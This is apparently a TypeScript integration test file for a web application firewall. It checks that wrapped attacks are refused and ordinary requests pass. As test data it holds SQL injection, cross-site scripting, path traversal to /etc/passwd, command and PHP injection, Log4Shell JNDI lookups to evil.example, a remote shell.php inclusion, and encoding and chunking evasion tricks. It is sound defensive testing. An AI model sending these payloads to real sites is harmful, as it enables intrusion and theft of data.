/** Requirement 3.2 through the running programs: attacks are refused however they are wrapped, and nothing else is. */
import assert from 'node:assert/strict';
import { test, type TestContext } from 'node:test';
import { seededRandom } from '@aegis/base';
import {
  eventually,
  type NodeUnderTest,
  parseResponse,
  raw,
  request,
  type RawResponse,
  startLoad,
  startNode,
  startOrigin,
} from './harness.ts';

/** Judgements, however busy the machine is. */
const PATIENT = 'deadline = "60s", body_deadline = "60s"';

const FORM = 'application/x-www-form-urlencoded';
const OCTETS = 'application/octet-stream';
/** Any other makes the same point. */
const SEED = 20_261_201;
const INJECTION = "1'%20OR%20'1'='1";

const BROWSER = {
  'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:129.0) Gecko/20100101 Firefox/129.0',
  accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
};

interface Asked {
  readonly method?: string;
  readonly headers?: Record<string, string>;
  readonly body?: string;
}

async function protectedSite(t: TestContext, waf: string, site = '') {
  const seen: { readonly url: string; readonly body: string }[] = [];
  const origin = await startOrigin(t, (incoming, response) => {
    let body = '';
    incoming.on('data', (bytes: Buffer) => (body += bytes.toString('latin1')));
    incoming.on('end', () => {
      seen.push({ url: incoming.url ?? '', body });
      response.setHeader('content-type', 'text/plain');
      if (incoming.url?.startsWith('/cached') === true) response.setHeader('cache-control', 'max-age=600');
      response.end('from the origin');
    });
  });
  const node = await startNode(t, { originPort: origin.port, workers: 1, disk: false, site: `waf = { ${waf} }\n${site}` });
  // On a busy machine it serves before an engine has started.
  await eventually(
    async () => /^aegis_waf_threads_ready(\{[^}]*\})? [1-9]/m.test((await node.admin('GET', '/metrics')).body),
    'no engine',
    120_000,
  );
  const ask = (target: string, { method, headers, body }: Asked = {}): Promise<RawResponse> =>
    request(node.httpPort, target, {
      ...(method === undefined ? {} : { method }),
      ...(body === undefined ? {} : { body }),
      headers: { ...BROWSER, ...headers },
    });
  return { node, ask, seen };
}

interface WafLine {
  readonly action: string;
  readonly score?: number;
  readonly unjudged?: string;
  readonly rules?: readonly { readonly id: number; readonly message: string; readonly variable: string }[];
  readonly more?: readonly number[];
}

async function lineOf(node: NodeUnderTest, id: string): Promise<WafLine | undefined> {
  await eventually(() => node.log().some((line) => line['id'] === id), `no line of ${id}`);
  return node.log().find((line) => line['id'] === id)!['waf'] as WafLine | undefined;
}

test('a site in mode block', async (t) => {
  const { node, ask, seen } = await protectedSite(t, `mode = "block", static = ["/assets/"], ${PATIENT}`);

  await t.test('refuses attacks of each class with 403, before the origin hears of them', async () => {
    const before = seen.length;
    const attacks: [string, string, Asked?][] = [
      ['SQL injection', `/?id=${INJECTION}`],
      ['cross-site scripting', '/?q=%3Cscript%3Ealert(1)%3C/script%3E'],
      ['path traversal', '/?file=../../../../etc/passwd'],
      ['remote file inclusion', '/?page=http://192.0.2.1/shell.php?'],
      ['command injection', '/?host=;cat%20/etc/passwd'],
      ['PHP injection', '/?x=%3C?php%20system($_GET[0]);'],
      ['Java: Log4Shell', '/', { headers: { 'x-api-version': '${jndi:ldap://evil.example/a}' } }],
      ['scanner', '/', { headers: { 'user-agent': 'sqlmap/1.7' } }],
      ['Node.js injection', "/?name=process.mainModule.require('child_process')"],
      ['in a cookie', '/', { headers: { cookie: `id=${INJECTION}` } }],
      ['in a form', '/', { method: 'POST', headers: { 'content-type': FORM }, body: `a=b&id=${INJECTION}` }],
      ['in JSON', '/', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"a":[{"b":"1\' OR \'1\'=\'1"}]}' }],
      ['in XML', '/', { method: 'POST', headers: { 'content-type': 'text/xml' }, body: "<a><b>1' OR '1'='1</b></a>" }],
    ];
    for (const [name, target, asked] of attacks) {
      const { status, fields, body } = await ask(target, asked);
      assert.equal(status, 403, name);
      assert.match(fields.get('x-request-id') ?? '', /^[a-z0-9]+-[a-z0-9]+$/);
      assert.doesNotMatch(body.toString(), /94\d{4}|libinjection|score|rule/i, 'what was found is not told');
    }
    assert.equal(seen.length, before);
  });

  await t.test('lets ordinary requests through, with their content whole', async () => {
    const long = `text=${'lorem+ipsum+'.repeat(20_000)}`;
    const benign: [string, Asked?][] = [
      ['/products/1234?color=red&size=42'],
      ['/search?q=how+to+bake+bread'],
      ['/', { method: 'POST', headers: { 'content-type': FORM }, body: 'name=Jane&city=Berlin' }],
      ['/', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"items":[{"id":1,"name":"shoe"}]}' }],
      ['/', { method: 'POST', headers: { 'content-type': FORM }, body: long }],
    ];
    for (const [target, asked] of benign) {
      const { status } = await ask(target, asked);
      assert.equal(status, 200, target);
      assert.equal(seen.at(-1)!.body, asked?.body ?? '');
    }
  });

  await t.test('is not deceived by how an attack is wrapped', async () => {
    const before = seen.length;
    const head = 'Host: site.test\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nConnection: close\r\n';
    const chunked = (body: string): string => `${Array.from(body, (byte) => `1\r\n${byte}\r\n`).join('')}0\r\n\r\n`;
    const boundary = 'Content-Type: multipart/form-data; boundary=x\r\n';
    const part = `--x\r\nContent-Disposition: form-data; name="id"\r\n\r\n1' OR '1'='1\r\n--x--\r\n`;
    const wrapped: [string, string][] = [
      ['percent-encoded whole', `GET /?id=%31%27%20%4f%52%20%27%31%27%3d%27%31 HTTP/1.1\r\n${head}\r\n`],
      ['absolute form', `GET http://site.test/?id=${INJECTION} HTTP/1.1\r\n${head}\r\n`],
      ['encoded twice', `GET /?q=%253Cscript%253Ealert(1)%253C/script%253E HTTP/1.1\r\n${head}\r\n`],
      ['path climbing', `GET /static/../../../etc/passwd HTTP/1.1\r\n${head}\r\n`],
      ['path climbing, encoded', `GET /static/..%2f..%2f..%2fetc/passwd HTTP/1.1\r\n${head}\r\n`],
      ['HTTP/1.0', `GET /?id=${INJECTION} HTTP/1.0\r\n${head}\r\n`],
      [
        'chunked, a byte at a time',
        `POST / HTTP/1.1\r\n${head}Content-Type: ${FORM}\r\nTransfer-Encoding: chunked\r\n\r\n${chunked(`id=${INJECTION}`)}`,
      ],
      ['multipart', `POST / HTTP/1.1\r\n${head}${boundary}Content-Length: ${part.length}\r\n\r\n${part}`],
      ['in the second of two fields', `GET / HTTP/1.1\r\n${head}X-A: fine\r\nX-A: \${jndi:ldap://evil.example/a}\r\n\r\n`],
      [
        'compressed content, which hides what it says',
        `POST / HTTP/1.1\r\n${head}Content-Encoding: gzip\r\nContent-Type: ${FORM}\r\nContent-Length: 3\r\n\r\nabc`,
      ],
    ];
    for (const [name, bytes] of wrapped) {
      assert.equal(parseResponse(await raw(node.httpPort, bytes, { halfClose: false })).status, 403, name);
    }
    // What comes behind a fragment is refused with the target: rules would not read it (RFC 9112 3.2).
    const fragment = await raw(node.httpPort, `GET /?a=1#id=${INJECTION} HTTP/1.1\r\n${head}\r\n`, { halfClose: false });
    assert.equal(parseResponse(fragment).status, 400);
    assert.equal(seen.length, before);
    assert.equal((await ask('/')).status, 200);
  });

  await t.test('says in the access log what was done, why, and where, without the values', async () => {
    const { fields } = await ask(`/?password=${INJECTION}`);
    const line = await lineOf(node, fields.get('x-request-id')!);
    assert.equal(line?.action, 'block');
    assert.equal(line.score, 5);
    assert.deepEqual(line.rules?.[0], {
      id: 942_100,
      message: 'SQL Injection Attack Detected via libinjection',
      variable: 'ARGS:password',
    });
    assert.doesNotMatch(JSON.stringify(line), /OR '1'/);
  });

  await t.test('answers hits of the cache, and refuses attacks on the same address', async () => {
    const before = seen.length;
    for (let i = 0; i < 5; i++) assert.equal((await ask('/cached')).status, 200);
    assert.equal((await ask('/cached', { headers: { 'user-agent': 'sqlmap/1.7' } })).status, 403);
    assert.equal((await ask('/cached', { headers: { 'x-a': '${jndi:ldap://evil.example/a}' } })).status, 403);
    assert.equal((await ask('/cached')).status, 200);
    assert.equal(seen.length, before + 1);
    const { body } = await node.admin('GET', '/metrics');
    assert.match(body, /aegis_waf_requests_total\{[^}]*action="pass"[^}]*by="memory"[^}]*\} [1-9]/);
  });

  await t.test('leaves configured static paths alone, but not what climbs out of them', async () => {
    const scanner = { headers: { 'user-agent': 'sqlmap/1.7' } };
    assert.equal((await ask('/assets/app.js', scanner)).status, 200);
    assert.equal((await ask('/assets/app.js?x=1', scanner)).status, 403);
    assert.equal((await ask('/assets/../app.js', scanner)).status, 403);
    assert.equal((await ask('/assets/app.js', { ...scanner, method: 'POST', body: 'a' })).status, 403);
  });
});

test('a site takes no longer bodies than it inspects, where it says so', async (t) => {
  const { node, ask, seen } = await protectedSite(t, `mode = "block", body_max = "4KiB", body_over = "block", ${PATIENT}`);
  const headers = { 'content-type': FORM };
  assert.equal((await ask('/', { method: 'POST', headers, body: 'a'.repeat(4_096) })).status, 200);
  assert.equal((await ask('/', { method: 'POST', headers, body: 'a'.repeat(4_097) })).status, 413);
  const body = `1001\r\n${'a'.repeat(4_097)}\r\n0\r\n\r\n`;
  const lines = `POST / HTTP/1.1\r\nHost: site.test\r\nAccept: */*\r\nUser-Agent: a\r\nContent-Type: ${FORM}\r\nTransfer-Encoding: chunked\r\n`;
  assert.equal(parseResponse(await raw(node.httpPort, `${lines}Connection: close\r\n\r\n${body}`, { halfClose: false })).status, 413);
  assert.equal(seen.length, 1);
});

test('responses are inspected where the site says so: what leaks is neither sent nor stored', async (t) => {
  const origin = await startOrigin(t, (incoming, response) => {
    response.setHeader('content-type', 'text/html');
    response.setHeader('cache-control', 'max-age=600');
    response.end(incoming.url === '/leak' ? '<b>Warning</b>: mysql_fetch_array() expects parameter 1' : `<p>${'fine '.repeat(50_000)}</p>`);
  });
  const waf = `waf = { mode = "block", responses = true, ${PATIENT} }`;
  const node = await startNode(t, { originPort: origin.port, workers: 1, disk: false, site: waf });
  for (let i = 0; i < 2; i++) {
    const leak = await request(node.httpPort, '/leak', { headers: BROWSER });
    assert.equal(leak.status, 403);
    assert.doesNotMatch(leak.body.toString(), /mysql/);
    assert.equal((await lineOf(node, leak.fields.get('x-request-id')!))?.action, 'block');
  }
  for (let i = 0; i < 2; i++) assert.equal((await request(node.httpPort, '/fine', { headers: BROWSER })).body.length, 250_007);
  assert.deepEqual(
    [...origin.requests],
    [
      ['/leak', 2],
      ['/fine', 1],
    ],
  );
});

test('mode log refuses nothing, and says what it would have refused', async (t) => {
  const { node, ask } = await protectedSite(t, `mode = "log", ${PATIENT}`);
  assert.equal((await ask(`/?id=${INJECTION}`)).status, 200);
  await eventually(() => node.log().some((line) => (line['waf'] as WafLine | undefined)?.action === 'would-block'), 'no such line');
});

test('on_failure decides about requests that cannot be judged in time', async (t) => {
  // An engine computes for tens of milliseconds at the least on so much of a form.
  const body = `${'a=the quick brown fox&'.repeat(5_000)}id=${INJECTION}`;
  for (const [onFailure, status] of [
    ['open', 200],
    ['closed', 503],
  ] as const) {
    const { node, ask } = await protectedSite(
      t,
      `mode = "block", on_failure = "${onFailure}", body_deadline = "1ms", arguments_max = 10000, work_max = 100000000000`,
    );
    const answer = await ask('/', { method: 'POST', headers: { 'content-type': FORM }, body });
    assert.equal(answer.status, status, onFailure);
    if (status === 503) assert.deepEqual(await lineOf(node, answer.fields.get('x-request-id')!), { action: 'block', unjudged: 'late' });
    await node.stop();
  }
});

test('requests that are too costly to judge are refused, and cost no engine and no benign request', async (t) => {
  const { node, ask } = await protectedSite(t, `mode = "block", arguments_max = 10000, body_max = "8MiB", ${PATIENT}`);
  const load = startLoad(t, node.httpPort, '/benign', { clients: 4, keepAlive: true });
  const body = JSON.stringify(Array.from({ length: 9_000 }, (_, i) => `quick brown fox ${'a'.repeat(300)} ${i}`));
  const costly = Array.from({ length: 3 }, () => ask('/', { method: 'POST', headers: { 'content-type': 'application/json' }, body }));
  for (const answer of await Promise.all(costly)) {
    assert.equal(answer.status, 413);
    const line = await lineOf(node, answer.fields.get('x-request-id')!);
    assert.deepEqual([line?.action, line?.unjudged], ['block', 'costly']);
  }
  const { answered, failures } = await load.stop();
  assert.deepEqual(failures, []);
  assert.ok(answered > 0);
  assert.doesNotMatch((await node.admin('GET', '/metrics')).body, /^aegis_waf_threads_ended_total\{[^}]*\} [1-9]/m);
});

test('no content hides an attack, or costs an engine, under the settings that a site has by default', async (t) => {
  const { node, ask, seen } = await protectedSite(t, 'mode = "block"');
  const random = seededRandom(SEED);
  const letters = (count: number, alphabet: string): string =>
    Array.from({ length: count }, () => alphabet[Math.floor(random.float() * alphabet.length)]).join('');
  // Fields that nearly match many patterns, over and over.
  const padding = Array.from({ length: 900 }, (_, i) => `p${i}=${letters(120, `abcde'"();|<>=+`)}`).join('&');
  const prose = `text=${"it's+said+that+'all+is+well'+".repeat(4_000)}`;
  const attack = "q=1'+union+select+password+from+users--+<script>alert(1)</script>";
  const binary = letters(120_000, String.fromCharCode(...Array.from({ length: 256 }, (_, i) => i)));
  const form = { method: 'POST', headers: { 'content-type': FORM } };
  const attacks: [string, string, Asked][] = [
    ['before the padding', '/', { ...form, body: `${attack}&${padding}` }],
    ['behind the padding', '/', { ...form, body: `${padding}&${attack}` }],
    ['in a short form', '/', { ...form, body: `${padding.slice(0, 8_000)}&${attack}` }],
    ['behind prose', '/', { ...form, body: `${prose}&${attack}` }],
    ['in the query, before bytes', `/?id=${INJECTION}`, { method: 'POST', headers: { 'content-type': OCTETS }, body: binary }],
    ['in a header, before padding', '/', { method: 'POST', headers: { 'content-type': FORM, 'x-a': '${jndi:ldap://a/b}' }, body: padding }],
  ];
  for (const [name, target, asked] of attacks) {
    const answer = await ask(target, asked);
    const line = await lineOf(node, answer.fields.get('x-request-id')!);
    assert.deepEqual([answer.status, line?.action, line?.unjudged], [403, 'block', undefined], name);
    assert.ok(line!.rules!.length > 0, name);
  }
  assert.equal(seen.length, 0);
  assert.equal((await ask('/', { ...form, body: prose })).status, 200);
  assert.equal(seen.length, 1);
  assert.doesNotMatch((await node.admin('GET', '/metrics')).body, /^aegis_waf_threads_ended_total\{[^}]*\} [1-9]/m);
});

test('a rule of one’s own that is wrong is refused before anything changes, with its line', async (t) => {
  const { node, ask } = await protectedSite(t, `mode = "block", ${PATIENT}`, 'name = "own"');
  const { readFile, writeFile } = await import('node:fs/promises');
  const before = await readFile(node.configPath, 'utf8');
  const withRules = (rules: string): string => before.replace('mode = "block"', `mode = "block", rules = '''\n${rules}\n'''`);
  await writeFile(node.configPath, withRules('SecRule ARGS "@rx fine" "id:1,phase:2,pass"\nSecRule ARGS "@rx (" "id:2,phase:2,pass"'));
  const bad = await node.admin('POST', '/api/v1/reload', {});
  assert.match(bad.body, /line 2 of them: .*missing closing/);
  await writeFile(node.configPath, withRules('SecRule ARGS:tenant "@streq evil" "id:1,phase:2,deny,log,msg:\'Unwanted\'"'));
  await node.admin('POST', '/api/v1/reload', {});
  await eventually(async () => (await ask('/?tenant=evil')).status === 403, 'the rule is not in force');
  assert.equal((await ask('/?tenant=good')).status, 200);
});
